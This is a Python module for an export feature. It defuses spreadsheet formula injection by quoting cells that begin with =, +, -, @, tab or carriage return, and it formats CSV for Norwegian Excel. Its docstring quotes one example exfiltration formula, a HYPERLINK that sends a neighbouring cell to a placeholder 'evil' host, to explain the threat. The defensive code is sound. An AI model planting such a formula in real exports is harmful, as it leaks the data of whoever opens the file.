"""CSV and XLSX cells that are safe to open in a spreadsheet, and CSV that Norwegian Excel opens (issue 18, 15).

- **Formula injection** (CWE-1236): a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return is run as a formula by Excel and LibreOffice when the file is opened — a customer's name
  ``=HYPERLINK("http://evil/?"&A1)`` in an export would send the neighbouring cell away. :func:`safe_cell`
  prefixes such a cell with ``'`` (OWASP's advice; spreadsheets show the text, not the quote).
  In XLSX, :func:`text_cells` stores every string as text, never as a formula.
- **Norwegian Excel**: with a Norwegian locale Excel splits CSV on ``;`` (``,`` is the decimal comma) and reads
  a file without a byte-order mark as Windows-1252, so æøå come out wrong. Spreadsheet-bound exports (the
  Art. 30 record, the portability files, the audit export) are therefore ``excel`` style by default: UTF-8
  with BOM, ``;``-separated, CRLF. ``plain`` is RFC 4180: UTF-8 without BOM, ``,``-separated.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any, Literal

__all__ = ["BOM", "FORMULA_START", "CsvStyle", "csv_text", "safe_cell", "text_cells"]

CsvStyle = Literal["excel", "plain"]
BOM = "\ufeff"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula; other values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]], style: CsvStyle = "excel") -> str:
    """A CSV document with every cell neutralised; ``excel``: BOM + ``;`` + CRLF, ``plain``: ``,`` + CRLF."""
    if style not in ("excel", "plain"):
        raise ValueError(f"csv style: {style!r} is not one of excel, plain")
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";" if style == "excel" else ",", lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell("" if v is None else v) for v in row])
    return (BOM if style == "excel" else "") + out.getvalue()


def text_cells(ws: Any) -> None:
    """Store every string cell of an openpyxl worksheet as text: openpyxl makes ``=...`` a live formula."""
    for line in ws.iter_rows():
        for cell in line:
            if isinstance(cell.value, str) and cell.data_type == "f":
                cell.data_type = "s"
